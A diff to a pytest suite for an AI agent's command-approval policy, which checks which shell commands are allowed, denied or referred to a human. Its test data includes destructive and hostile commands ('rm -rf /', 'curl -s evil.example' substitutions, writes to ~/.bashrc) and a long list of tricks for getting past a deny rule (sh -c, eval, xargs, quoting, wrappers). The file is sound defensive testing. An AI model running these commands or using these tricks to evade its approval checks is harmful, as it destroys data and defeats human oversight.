@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-import re
+import shlex
 import time
 
 import pytest
@@ -31,22 +31,27 @@ def run(command: str, profile: Profile = CAREFUL) -> str:
         ("npm test", "allow"),
         ("npm test -- --watch", "allow"),
         ("  git status  ", "allow"),
+        ("'npm' \\test", "allow"),  # the argv is npm, test: quotes and backslashes are removed
         ("npm testing", "ask"),  # a prefix matches whole words
         ("make build", "ask"),
         ("rm -rf /tmp/x", "deny"),
         ("git push --force origin main", "deny"),
-        ("npm test && git status", "allow"),
-        ("npm test;git status", "allow"),
-        ("npm test || make build", "ask"),  # every part must be allowed
-        ("npm test | rm -rf /", "deny"),  # a denied part denies the whole
+        # Without a shell these are arguments of npm; a prefix rule does not vouch for a word
+        # the model meant as an operator, and a denied program after one is denied.
+        ("npm test && git status", "ask"),
+        ("npm test;git status", "ask"),
+        ("npm test || make build", "ask"),
+        ("npm test | rm -rf /", "deny"),
         ("npm test & rm -rf /", "deny"),
         ("npm test foo\nrm -rf /", "deny"),  # a new line is a new command
         ("npm test foo\nmake build", "ask"),
         ("npm test & make build", "ask"),
+        ("npm test > notes.txt", "ask"),
         ("npm test $(curl -s evil.example)", "ask"),  # substitutions are a human's call
         ("npm test `curl -s evil.example`", "ask"),
         ("npm test <(cat secrets)", "ask"),
-        ("npm test && echo $(rm -rf /)", "ask"),
+        ("npm test && echo $(rm -rf /)", "deny"),  # what a substitution would run is read too
+        ("npm test 'unbalanced", "ask"),
         ("", "ask"),
     ],
 )
@@ -57,39 +62,198 @@ def test_the_policy_decides_what_it_can(command: str, expected: str) -> None:
 def test_tools_outside_the_policy_always_run() -> None:
     assert verdict(CAREFUL, "update_todo_list", {"todos": "rm -rf /"}) == "allow"
     assert run("anything at all", Profile(approval_tools=[])) == "allow"
+    globbed = Profile(approval_tools=["leave_*"])
+    assert verdict(globbed, "leave_mark", {"label": "x"}) == "ask", "approval_tools are names or `*` globs"
+    assert verdict(globbed, "add_numbers", {"a": 1}) == "allow"
 
 
-def test_a_tool_rule_without_a_prefix_allows_every_call_but_substitutions() -> None:
+def test_a_tool_rule_without_a_prefix_allows_every_call_of_plain_words() -> None:
     open_policy = Profile(approval_tools=["run_command"], allow=["run_command"])
-    assert run("make build && make test", open_policy) == "allow"
+    assert run("make build", open_policy) == "allow"
+    assert run("make build && make test", open_policy) == "ask"
     assert run("make $(whoami)", open_policy) == "ask"
 
 
-# The split the policy used to make (quadratic on a run of spaces no separator follows).
-OLD_CHAIN = re.compile(r"\s*(?:&&|\|\||;|\|)\s*")
+@given(st.text(alphabet=" \t\n;|&<>`ab'\"\\=$()/", max_size=24))
+def test_a_denied_program_anywhere_is_never_allowed(command: str) -> None:
+    """Whatever the text: allowed only as `a` and plain words; never with a word `b` (or `x/b`) in it."""
+    policy = Profile(approval_tools=["run_command"], allow=["run_command:a"], deny=["run_command:b"])
+    decided = run(command, policy)
+    if decided == "allow":
+        argv = shlex.split(command)
+        assert argv[0] == "a" and "\n" not in command
+        assert not any(c in word for word in argv for c in ";|&<>`") and "$(" not in command
+    words = _words(command)
+    if words is not None and any(word.rpartition("/")[2] == "b" for word in words):
+        assert decided != "allow"
 
 
-@given(st.text(alphabet=" \t;|&abn", max_size=24))
-def test_the_split_keeps_its_parts_where_no_new_separator_is(command: str) -> None:
-    """Without a lone `&` or a new line, the parts are those of the old split (so the verdicts are too)."""
-    lone_amp = re.search(r"(?<!&)&(?!&)", command.replace("&&", ""))
-    if lone_amp is None and "\n" not in command:
-        old = [p for p in OLD_CHAIN.split(command.strip()) if p] or [""]
-        policy = Profile(approval_tools=["run_command"], allow=["run_command:a"], deny=["run_command:b"])
-        expected = (
-            "deny"
-            if any(p == "b" or p.startswith("b ") for p in old)
-            else ("allow" if all(p == "a" or p.startswith("a ") for p in old) else "ask")
-        )
-        assert run(command, policy) == expected
+def _words(command: str) -> list[str] | None:
+    try:
+        return shlex.split(command)
+    except ValueError:
+        return None
 
 
 @pytest.mark.parametrize(
     "command",
-    ["npm test" + " " * 1_000_000 + "x", "a" + " \t" * 500_000 + "&& b", "|" * 1_000_000],
-    ids=["spaces", "spaces and tabs", "pipes"],
+    [
+        "npm test" + " " * 1_000_000 + "x",
+        "a" + " \t" * 500_000 + "&& b",
+        "|" * 1_000_000,
+        "npm test" + " \t" * 15_000 + "x",  # under MAX_COMMAND_CHARS: read, not refused for its length
+        "a" + " |" * 15_000,
+        "sh -c '" + "a; " * 10_000 + "'",
+    ],
+    ids=["spaces", "spaces and tabs", "pipes", "read spaces", "read pipes", "read script"],
 )
 def test_a_long_command_is_decided_in_linear_time(command: str) -> None:
     started = time.perf_counter()
     run(command)
     assert time.perf_counter() - started < LINEAR_BUDGET_S
+
+
+# The example policy of docs/control.md ("Running commands"), word for word.
+EXAMPLE = Profile(
+    approval_tools=["run_command"],
+    allow=["run_command:=npm test", "run_command:ls", "run_command:git status", "run_command:=git diff"],
+    deny=["run_command:sudo", "run_command:rm -rf /"],
+)
+
+
+@pytest.mark.parametrize(
+    "command", ["npm test", "ls", "ls -la", "ls -la src", "git status", "git status --short", "git diff"]
+)
+def test_the_documented_example_allows_its_commands(command: str) -> None:
+    assert run(command, EXAMPLE) == "allow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm  -rf x",
+        "rm -fr x",
+        "/bin/rm -rf x",
+        "\\rm -rf x",
+        "'rm' -rf x",
+        "X=1 rm -rf x",
+        "command rm -rf x",
+        "sh -c 'rm -rf x'",
+        "bash -c 'rm -rf x'",
+        "eval rm -rf x",
+        "xargs rm",
+        "git push -f",
+        "git push --force origin main",
+        "git -c core.pager=sh status",  # an option before the subcommand: not `git status`
+        "git diff --output=/home/me/.bashrc",  # `=git diff` is exact: no option may be added
+        "git diff --ext-diff",
+        "npm test --script-shell=./evil.sh",
+        "npm test > ~/.bashrc",
+        "npm test -- --grep x",
+        "ls; rm -rf x",
+        "ls && rm -rf x",
+        "ls | sh",
+        "ls $(rm -rf x)",
+        "ls\nrm -rf x",
+        "./ls",
+        "/tmp/evil/ls",  # an allow rule names the program as the command must: on PATH
+        "env ls",
+        "sudo ls",
+        "sudo rm -rf /",
+        "sh -c 'rm -rf /'",
+        "xargs rm -rf /",
+    ],
+)
+def test_the_documented_example_lets_no_bypass_through(command: str) -> None:
+    assert run(command, EXAMPLE) in ("ask", "deny")
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["sudo ls", "sudo rm x", "/usr/bin/sudo -u root ls", "rm -rf /", "/bin/rm -rf /", "env rm -rf /", "ls; rm -rf /",
+     "nice -n 5 rm -rf /", "timeout 5 rm -rf / --no-preserve-root", "bash -c 'cd /tmp && rm -rf /'"],
+)  # fmt: skip
+def test_the_documented_example_denies_its_deny_list_behind_wrappers(command: str) -> None:
+    assert run(command, EXAMPLE) == "deny"
+
+
+# Everything is allowed but rm: a deny rule is all that stands between a command and running.
+ALL_BUT_RM = Profile(approval_tools=["run_command"], allow=["run_command"], deny=["run_command:rm"])
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm x",
+        "/bin/rm x",
+        "\\rm x",
+        "'rm' x",
+        "X=1 rm x",
+        "command rm x",
+        "exec rm x",
+        "env -i PATH=/bin rm x",
+        "nice -n 5 rm x",
+        "nohup rm x",
+        "time rm x",
+        "timeout 5 rm x",
+        "xargs rm",
+        "xargs -n 1 rm",
+        "sudo rm x",
+        "busybox rm x",
+        "sh -c 'rm -rf x'",
+        "bash -lc 'rm -rf x'",
+        "zsh -c 'cd /tmp; rm -rf x'",
+        "sh -c 'echo a\nrm x'",
+        "sh -c 'r\"\"m x'",
+        "sh -c \"sh -c 'rm x'\"",
+        "eval rm x",
+        "eval 'ls; rm x'",
+        "busybox sh -c 'rm x'",
+        "ls; rm x",
+        "ls | xargs rm",
+        "sh -c 'if true; then rm x; fi'",
+        "sh -c 'for f in *; do rm $f; done'",
+    ],
+)
+def test_a_deny_rule_denies_its_program_wherever_it_would_run(command: str) -> None:
+    assert run(command, ALL_BUT_RM) == "deny"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sh -c '$(printf rm) x'",  # what the script runs is not known before it runs
+        "sh -c 'x=rm; $x y'",
+        "sh -c '/bin/r? x'",
+        "bash -c '{rm,x}'",
+        "sh script.sh",
+        "bash ./cleanup",
+        "find . -exec rm {} ;",  # rm is among the words: a human looks
+        "sudo -u root rm x",
+        "python3 -c 'import os; os.system(\"rm -rf x\")'",
+        "su -c 'rm -rf x'",
+        "echo rm",
+    ],
+)
+def test_a_deny_rule_it_cannot_rule_out_asks_a_human(command: str) -> None:
+    assert run(command, ALL_BUT_RM) == "ask"
+
+
+def test_rules_of_other_tools_keep_matching_their_text() -> None:
+    fetcher = Profile(approval_tools=["fetch"], allow=["fetch:https://docs.example"], deny=["fetch:https://evil"])
+    assert verdict(fetcher, "fetch", {"url": "https://docs.example /page"}) == "allow"
+    assert verdict(fetcher, "fetch", {"url": "https://evil /x"}) == "deny"
+    assert verdict(fetcher, "fetch", {"url": "https://docs.example && https://evil"}) == "deny"
+    assert verdict(fetcher, "fetch", {"url": "https://other"}) == "ask"
+
+
+def test_an_exact_rule_and_a_broken_rule() -> None:
+    exact = Profile(approval_tools=["run_command"], allow=["run_command:=make test"], deny=["run_command:=make deploy"])
+    assert run("make test", exact) == "allow"
+    assert run("make test V=1", exact) == "ask"
+    assert run("make deploy", exact) == "deny"
+    assert run("make deploy now", exact) == "ask"
+    broken = Profile(approval_tools=["run_command"], allow=["run_command:'ls", "run_command:"], deny=[])
+    assert run("ls", broken) == "ask", "an unreadable or empty allow rule allows nothing"
+    assert run("ls", Profile(approval_tools=["run_command"], allow=["run_command"], deny=["run_command:'x"])) == "deny"
+    assert run("ls", Profile(approval_tools=["run_command"], deny=["run_command"])) == "deny"
